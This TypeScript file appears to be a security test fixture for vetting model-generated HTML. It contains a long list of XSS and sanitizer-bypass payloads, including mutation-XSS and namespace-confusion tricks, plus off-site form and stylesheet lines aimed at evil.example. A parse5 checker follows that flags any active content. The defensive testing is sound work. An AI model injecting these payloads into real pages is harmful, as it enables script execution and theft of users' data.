// Hostile HTML a model might return (issue 16 item 7), from the OWASP XSS filter evasion cheat sheet, PortSwigger's
// XSS cheat sheet and the advisories (sanitize-html GHSA-jxwj mutation XSS, DOMPurify's namespace-confusion bypasses),
// and the check that a parsed page has nothing active left. Every payload that runs calls alert('xss') or logs 'xss'.
import { parse, parseFragment, html as parse5Html } from "parse5";
import type { DefaultTreeAdapterMap } from "parse5";

export const XSS_PAYLOADS: [name: string, html: string][] = [
  ["script element", `<script>alert('xss')</script>`],
  ["img onerror", `<img src=x onerror=alert('xss')>`],
  ["svg onload", `<svg onload=alert('xss')>`],
  ["script inside svg", `<svg><script>alert('xss')</script></svg>`],
  ["body onload", `<body onload=alert('xss')>`],
  ["javascript: href", `<a href="javascript:alert('xss')">x</a>`],
  ["javascript: as decimal entities", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss')">x</a>`],
  ["javascript: as hex entities without semicolons", `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert('xss')">x</a>`],
  ["javascript: split by an encoded tab", `<a href="jav&#x09;ascript:alert('xss');">x</a>`],
  ["javascript: split by an encoded newline", `<a href="jav&#x0A;ascript:alert('xss');">x</a>`],
  ["javascript: after spaces and a control character", `<a href=" &#14;  javascript:alert('xss');">x</a>`],
  ["javascript: in mixed case", `<a href="JaVaScRiPt:alert('xss')">x</a>`],
  ["javascript&colon;", `<a href="javascript&colon;alert('xss')">x</a>`],
  ["javascript: with a NUL", `<a href="java\u0000script:alert('xss')">x</a>`],
  ["data:text/html link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">x</a>`],
  ["data: svg link", `<a href="data:image/svg+xml,<svg onload=alert('xss')>">x</a>`],
  ["vbscript: link", `<a href="vbscript:msgbox('xss')">x</a>`],
  ["iframe javascript: src", `<iframe src="javascript:alert('xss')"></iframe>`],
  ["iframe srcdoc", `<iframe srcdoc="&lt;script&gt;alert('xss')&lt;/script&gt;"></iframe>`],
  ["object data", `<object data="javascript:alert('xss')"></object>`],
  ["embed data: svg", `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoJ3hzcycpPjwvc3ZnPg==">`],
  ["meta refresh off-site", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`],
  ["meta refresh to javascript:", `<meta http-equiv="refresh" content="0;url=javascript:alert('xss')">`],
  ["base href", `<base href="https://evil.example/">`],
  ["link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["form posting off-site", `<form action="https://evil.example/steal" method="get"><input type="email" name="email"><button>Steal</button></form>`],
  ["button formaction", `<button formaction="javascript:alert('xss')">x</button>`],
  ["input formaction off-site", `<input type="submit" formaction="https://evil.example/">`],
  ["input type=image onerror", `<input type="image" src="x" onerror="alert('xss')">`],
  ["textarea mutation (GHSA-jxwj)", `<textarea><p title="</textarea><img src=x onerror=alert('xss')>"></textarea>`],
  ["noscript mutation", `<noscript><p title="</noscript><img src=x onerror=alert('xss')>"></noscript>`],
  ["style mutation", `<style><a title="</style><img src=x onerror=alert('xss')>"></style>`],
  ["title RCDATA mutation", `<title><a title="</title><img src=x onerror=alert('xss')>"></title>`],
  ["xmp mutation", `<xmp><p title="</xmp><img src=x onerror=alert('xss')>"></xmp>`],
  ["noembed mutation", `<noembed><p title="</noembed><img src=x onerror=alert('xss')>"></noembed>`],
  ["noframes mutation", `<noframes><p title="</noframes><img src=x onerror=alert('xss')>"></noframes>`],
  ["plaintext", `<plaintext><img src=x onerror=alert('xss')>`],
  ["template", `<template><img src=x onerror=alert('xss')></template>`],
  ["svg namespace confusion (DOMPurify 2.0.0 bypass)", `<svg></p><style><a id="</style><img src=1 onerror=alert('xss')>">`],
  ["math mglyph namespace confusion", `<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')></style></mglyph></table></mtext></math>`],
  ["form and math nesting (DOMPurify 2.0.17 bypass)", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('xss')>`],
  ["svg style breakout", `<svg><style><img src=x onerror=alert('xss')></style></svg>`],
  ["svg xlink:href", `<svg><a xlink:href="javascript:alert('xss')"><text x="20" y="20">x</text></a></svg>`],
  ["math href", `<math href="javascript:alert('xss')">x</math>`],
  ["svg animate onbegin", `<svg><animate onbegin=alert('xss') attributeName=x dur=1s>`],
  ["svg set to javascript:", `<svg><a><set attributeName="href" to="javascript:alert('xss')"/><text y=20>x</text></a></svg>`],
  ["details ontoggle", `<details open ontoggle=alert('xss')><summary>x</summary></details>`],
  ["autofocus onfocus", `<input autofocus onfocus=alert('xss')>`],
  ["video poster and source onerror", `<video poster=javascript:alert('xss')><source onerror=alert('xss')></video>`],
  ["img srcset", `<img srcset="javascript:alert('xss') 1x">`],
  ["table background", `<table background="javascript:alert('xss')"><tr><td>x</td></tr></table>`],
  ["custom element onclick", `<x-foo onclick=alert('xss')>x</x-foo>`],
  ["marquee onstart", `<marquee onstart=alert('xss')>x</marquee>`],
  ["frameset onload", `<frameset onload=alert('xss')>`],
  ["select template style", `<select><template><style><img src=x onerror=alert('xss')></style></template></select>`],
  ["noscript style breakout", `<noscript><style></noscript><img src=x onerror=alert('xss')>`],
  ["nested script tags", `<scr<script>ipt>alert('xss')</script>`],
  ["malformed attribute quotes", `<img """><script>alert('xss')</script>">`],
  ["conditional comment", `<!--[if gte IE 4]><script>alert('xss')</script><![endif]-->`],
  ["abrupt comment", `<!--><img src=x onerror=alert('xss')>-->`],
  ["CDATA outside foreign content", `<![CDATA[<img src=x onerror=alert('xss')>]]>`],
  ["encoded markup in an attribute", `<div title="&quot;&gt;&lt;img src=x onerror=alert('xss')&gt;">x</div>`],
  ["style attribute url(javascript:)", `<div style="background:url(javascript:alert('xss'))">x</div>`],
  ["style attribute expression()", `<div style="width: expression(alert('xss'))">x</div>`],
  ["style attribute -moz-binding", `<div style="-moz-binding: url(https://evil.example/xss.xml#x)">x</div>`],
  ["style attribute escaped url", `<div style="background: \\75 rl(https://evil.example/x.png)">x</div>`],
  ["CSS @import", `<style>@import 'https://evil.example/x.css'; .a { color: red }</style>`],
  ["CSS url() with an escape", `<style>body { background: u\\72l(https://evil.example/x.png) }</style>`],
  ["CSS url() split by a comment", `<style>body { background: ur/**/l(https://evil.example/x.png) }</style>`],
  ["CSS closing its style element", `<style>.a { content: "</style><img src=x onerror=alert('xss')>" }</style>`],
  ["CSS @font-face", `<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style>`],
  ["CSS image-set", `<style>.a { background-image: image-set("https://evil.example/x.png" 1x) }</style>`],
];

/** The form every payload page also carries, so that it can be published. */
export const goodForm = (key: string) => `<form method="post" action="/s/${key}"><input type="email" name="email" required><button type="submit">Join</button></form>`;

type Node = DefaultTreeAdapterMap["node"];
type Element = DefaultTreeAdapterMap["element"];

const BANNED = new Set(["script", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "textarea", "noscript", "xmp", "noembed", "noframes", "plaintext", "template", "img", "video", "audio", "source", "portal"]);
const ACTIVE = /url\s*\(|@import|expression\s*\(|-moz-binding|behavior|image-set|\\/i;
const ACTIVE_CSS = { test: (css: string) => ACTIVE.test(css.replace(/\/\*[\s\S]*?(\*\/|$)/g, "")) };
const BAD_URL = /^(javascript|data|vbscript):/i;
const URL_ATTRS = new Set(["href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "background", "data", "srcdoc", "to", "values", "from"]);

function* walk(node: Node, inHead = false): Generator<{ el: Element; inHead: boolean }> {
  for (const child of (node as Element).childNodes ?? []) {
    if ("tagName" in child) {
      yield { el: child as Element, inHead };
      yield* walk(child, inHead || child.tagName === "head");
      if (child.tagName === "template") yield* walk((child as DefaultTreeAdapterMap["template"]).content, inHead);
    }
  }
}

/**
 * What is still active in `html` (a whole document, or a body fragment with its stylesheet): an empty list means
 * nothing can run, fetch, navigate or post off-site. `formAction` is the one action a form may have.
 */
export function activeParts(html: string, opts: { formAction: string; css?: string; document?: boolean }): string[] {
  const root = opts.document ? parse(html) : parseFragment(html);
  const found: string[] = [];
  if (opts.css !== undefined && ACTIVE_CSS.test(opts.css)) found.push(`css: ${opts.css}`);
  for (const { el, inHead } of walk(root)) {
    const tag = el.tagName;
    if (el.namespaceURI !== parse5Html.NS.HTML) found.push(`foreign element <${tag}>`);
    if (BANNED.has(tag)) found.push(`<${tag}>`);
    if (tag === "meta" && (!inHead || el.attrs.some((a) => a.name === "http-equiv"))) found.push("<meta> outside the page's own head tags");
    if (tag === "link" && (!inHead || !el.attrs.some((a) => a.name === "rel" && (a.value === "canonical" || a.value === "stylesheet" || a.value === "icon")))) found.push("<link>");
    // the page's own icon only (issue 43): nothing a model wrote
    if (tag === "link" && el.attrs.some((a) => a.name === "rel" && a.value === "icon") && !el.attrs.some((a) => a.name === "href" && a.value === "/assets/favicon.svg")) found.push("foreign icon");
    if (tag === "link" && el.attrs.some((a) => a.name === "rel" && a.value === "stylesheet") && !el.attrs.some((a) => a.name === "href" && a.value.startsWith("/assets/"))) found.push("off-site stylesheet");
    if (tag === "style") {
      const text = el.childNodes.map((c) => (c as DefaultTreeAdapterMap["textNode"]).value ?? "").join("");
      if (ACTIVE_CSS.test(text)) found.push(`<style> ${text}`);
    }
    if (tag === "form") {
      const action = el.attrs.find((a) => a.name === "action")?.value;
      const method = el.attrs.find((a) => a.name === "method")?.value;
      if (action !== opts.formAction || method !== "post") found.push(`form action=${action} method=${method}`);
    }
    for (const a of el.attrs) {
      const name = (a.prefix ? `${a.prefix}:` : "") + a.name;
      if (/^on/i.test(a.name)) found.push(`${name} on <${tag}>`);
      if (a.name === "style" && ACTIVE_CSS.test(a.value)) found.push(`style=${a.value}`);
      if (URL_ATTRS.has(name) || URL_ATTRS.has(a.name)) {
        if (name === "formaction" || name === "srcdoc") found.push(`${name} on <${tag}>`);
        if (BAD_URL.test(a.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, ""))) found.push(`${name}=${a.value}`);
      }
    }
  }
  return found;
}
